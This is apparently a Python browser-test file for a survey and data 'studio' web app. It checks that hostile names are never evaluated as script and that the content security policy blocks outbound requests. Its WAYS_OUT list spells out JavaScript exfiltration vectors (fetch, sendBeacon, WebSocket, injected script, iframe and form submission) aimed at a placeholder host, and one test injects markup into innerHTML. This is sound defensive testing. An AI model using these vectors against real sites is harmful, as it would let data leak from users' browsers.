# SPDX-License-Identifier: Apache-2.0
"""Whatever a table, a survey or a person is called, no page evaluates it.

Columns, values, files, projects, surveys, fields, answers, users, tokens and reasons
are called like pieces of programs. Every page is opened and used in a browser, which
tells of anything that was evaluated, that the content security policy refused, or that
was asked for elsewhere.
"""

from __future__ import annotations

import re
import socket
import threading
from contextlib import suppress

import pytest
from nicegui import Client

from diversa.studio.pages import add_pages
from hostile import HIT, hostile_names
from hostile_studio import KNOWN, OTHERS, PASSWORD, REASON, SECRETS, TITLE, USER

pytestmark = pytest.mark.browser

PATIENCE = 60_000

SHOWN = {
    "/": (hostile_names("project")[4], TITLE),
    "/account": (USER, hostile_names("t")[4]),
    "/users": (USER,),
    "/log": (hostile_names("t")[4],),
    "/surveys/new": (),
    "/projects/{survey}/survey": (TITLE,),
    "/projects/{survey}/data": (hostile_names("f")[0], hostile_names("f")[4]),
    "/projects/{table}/data": (*KNOWN, *SECRETS, *OTHERS, hostile_names("value")[0]),
    "/projects/{table}/hierarchies": KNOWN,
    "/projects/{table}/measure": SECRETS,
    "/projects/{table}/explore": (*KNOWN, hostile_names("value")[0]),
    "/projects/{table}/person": (*KNOWN, *SECRETS),
    "/projects/{table}/publish": (*SECRETS, USER, REASON),
}
"""The pages, and some of what each shows as it is written."""


class Watch:
    """Notes what a page does that no name may make it do."""

    def __init__(self, page, host):
        self.page, self.host, self.notes = page, host, []
        page.on("request", lambda request: self.asked(request.url))
        page.on("console", lambda message: self.heard(message.text))
        page.on("pageerror", lambda error: self.notes.append(f"error: {error}"))
        page.on("dialog", lambda dialog: self.notes.append(f"said: {dialog.message}"))

    def asked(self, url):
        if not url.startswith((self.host, "data:", "blob:")):
            self.notes.append(f"asked: {url}")

    def heard(self, text):
        if "Content Security Policy" in text:
            self.notes.append(f"refused: {text}")

    def seen(self):
        """All of it, and how often a name was evaluated."""
        hits = self.page.evaluate("window.__hit || 0")
        return [*self.notes, *([f"evaluated {hits} times"] if hits else [])]


@pytest.fixture(scope="module")
def context(browser, hostile):
    """A browser in which the one with the hostile name has logged in."""
    studio, _ = hostile
    made = browser.new_context(viewport={"width": 1280, "height": 900})
    made.set_default_timeout(PATIENCE)
    page = made.new_page()
    page.goto(studio.host)
    page.get_by_label("Name").fill(USER)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.get_by_role("heading", name="Projects").wait_for()
    yield made
    made.close()


@pytest.fixture
def opened(context, hostile):
    """Opens a page of the studio in a tab of its own, and watches it."""
    studio, filled = hostile
    page = context.new_page()
    watch = Watch(page, studio.host)

    def open_page(path):
        page.goto(studio.host + path.format(**vars(filled)))
        return watch

    yield open_page
    page.close()


def wait_until_drawn(page):
    """Wait until a page is filled."""
    page.get_by_role("heading", level=1).wait_for()
    page.wait_for_function("window.did_handshake")
    page.wait_for_timeout(300)  # parts are filled once the browser is there
    page.wait_for_function("!document.querySelector('.q-spinner')")


def shown_text(page):
    """All that can be read on a page, with what is written into its fields."""
    return page.evaluate(
        """document.body.innerText + [...document.querySelectorAll('input')].map(
             field => field.value).join(' ') + [...document.querySelectorAll(
             '[aria-label]')].map(one => one.ariaLabel).join(' ')"""
    )


def plain(text):
    """A text as a page shows it: white space is one space."""
    return " ".join(text.split())


def use(page):
    """Open what can be opened, and point at what explains itself."""
    closed = page.locator(".q-expansion-item--collapsed .q-item:visible")
    for _ in range(closed.count()):
        with suppress(Exception):  # a page may draw itself anew meanwhile
            closed.first.click(timeout=2000)
    wait_until_drawn(page)
    for choice in page.locator(".q-select:not(.disabled)").all()[:8]:
        with suppress(Exception):  # another one may cover it
            choice.click(timeout=2000)
        page.wait_for_timeout(100)
        page.keyboard.press("Escape")
    for explain_error in page.locator("[data-tip]:visible").all()[:20]:
        with suppress(Exception):
            explain_error.hover(timeout=1000)
    for chart in page.locator("canvas:visible").all():
        box = chart.bounding_box()
        for across in range(1, 10):
            for down in range(1, 6):
                place = {"x": box["width"] * across / 10, "y": box["height"] * down / 6}
                chart.hover(position=place, force=True)


def test_every_page_is_tried():
    add_pages()
    own = {path for path in Client.page_routes.values() if "nicegui" not in path}
    tried = {re.sub(r"\{\w+\}", "{project}", path) for path in SHOWN}
    assert tried == own


@pytest.mark.parametrize("path", SHOWN)
def test_no_page_evaluates_a_name(opened, path):
    watch = opened(path)
    page = watch.page
    wait_until_drawn(page)
    assert watch.seen() == []
    text = plain(shown_text(page))
    assert [name for name in SHOWN[path] if plain(name) not in text] == []
    use(page)
    assert watch.seen() == []


def test_what_is_asked_for_on_pages_is_not_evaluated(opened):
    watch = opened("/projects/{table}/explore")
    page = watch.page
    wait_until_drawn(page)
    page.get_by_role("button", name="Try them all").click()
    page.get_by_role("button", name="Draw the curve").click()
    wait_until_drawn(page)
    use(page)
    assert watch.seen() == []
    opened("/projects/{table}/publish")
    wait_until_drawn(page)
    page.get_by_role("button", name="Publish", exact=True).click()
    page.get_by_role("heading", name="Release 3").wait_for()
    with page.context.expect_page() as opening:
        page.get_by_role("button", name="Report").first.click()
    report = opening.value
    report.wait_for_load_state()
    assert plain(SECRETS[0]) in plain(report.inner_text("body"))
    assert report.evaluate("window.__hit || 0") == 0
    assert watch.seen() == []


def test_a_wrong_name_in_a_message_is_not_evaluated(opened):
    watch = opened("/")
    page = watch.page
    page.locator("input[type=file]").set_input_files(
        {"name": f"{KNOWN[2]}.exe".replace("/", ""), "mimeType": "", "buffer": b"x"}
    )
    page.locator(".q-notification").wait_for()
    opened("/projects/{table}/data")
    wait_until_drawn(page)
    page.get_by_label(f"What {KNOWN[0]} is", exact=True).click()
    page.get_by_role("option", name="Names a person").click()
    page.locator(".q-notification", has_text=KNOWN[0]).wait_for()
    page.get_by_label(f"What {KNOWN[0]} is", exact=True).click()
    page.get_by_role("option", name="Others may know it").click()
    page.locator(".q-notification", has_text="quasi-identifier").wait_for()
    assert watch.seen() == []


def test_respondents_read_names_as_they_are(browser, hostile):
    studio, filled = hostile
    page = browser.new_page()
    watch = Watch(page, studio.host)
    page.goto(studio.host + filled.link)
    assert plain(TITLE) in plain(page.inner_text("body"))
    assert plain(hostile_names("f")[0]) in plain(page.inner_text("body"))
    assert watch.seen() == []
    page.close()


def test_a_program_that_was_smuggled_in_would_be_noticed(opened):
    """Else the tests above could not fail."""
    watch = opened("/")
    wait_until_drawn(watch.page)
    watch.page.evaluate(f"() => {HIT}")
    assert watch.seen() == ["evaluated 1 times"]


def test_the_policy_stops_what_stands_in_html(opened):
    watch = opened("/")
    wait_until_drawn(watch.page)
    name = hostile_names("x")[4]
    watch.page.evaluate("name => { document.body.innerHTML += name }", name)
    watch.page.wait_for_timeout(500)
    assert watch.page.evaluate("window.__hit || 0") == 0
    assert any("refused" in note for note in watch.seen())


@pytest.fixture
def elsewhere():
    """Another server, and what it was sent; a browser may connect and say nothing."""
    calls = []

    def listen():
        with suppress(OSError):
            while True:
                connection, _ = listener.accept()
                connection.settimeout(0.2)
                with suppress(TimeoutError), connection:
                    calls.extend(filter(None, [connection.recv(100)]))

    with socket.create_server(("127.0.0.1", 0)) as listener:
        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{listener.getsockname()[1]}", calls
        listener.shutdown(socket.SHUT_RDWR)


WAYS_OUT = (
    "fetch('http://PLACE/x')",
    "new WebSocket('ws://PLACE/x')",
    "new Image().src = 'http://PLACE/x'",
    "navigator.sendBeacon('http://PLACE/x', 'x')",
    "import('http://PLACE/x.js')",
    "document.body.style.backgroundImage = 'url(http://PLACE/x)'",
    "document.body.append(Object.assign(document.createElement('iframe'),"
    " { src: 'http://PLACE/x' }))",
    "document.body.append(Object.assign(document.createElement('script'),"
    " { src: 'http://PLACE/x' }))",
    "document.head.append(Object.assign(document.createElement('link'),"
    " { rel: 'stylesheet', href: 'http://PLACE/x' }))",
    "(() => { const form = document.createElement('form'); document.body.append("
    "form); form.action = 'http://PLACE/x'; form.submit(); })()",
)
"""What a program could try to send something out."""


@pytest.mark.parametrize("program", WAYS_OUT)
def test_the_policy_lets_a_program_send_nothing(opened, elsewhere, program):
    place, calls = elsewhere
    watch = opened("/")
    wait_until_drawn(watch.page)
    with suppress(Exception):
        watch.page.evaluate(f"() => {{ {program.replace('PLACE', place)} }}")
    watch.page.wait_for_timeout(600)
    assert calls == []
    assert any(note.startswith("refused") for note in watch.notes)


def test_what_the_policy_cannot_stop_is_known(opened, elsewhere):
    """A page may leave for another address; `docs/studio.md` says so."""
    place, calls = elsewhere
    watch = opened("/")
    wait_until_drawn(watch.page)
    watch.page.evaluate(f"() => {{ location = 'http://{place}/left' }}")
    watch.page.wait_for_timeout(1000)
    assert b"GET /left" in calls[0]
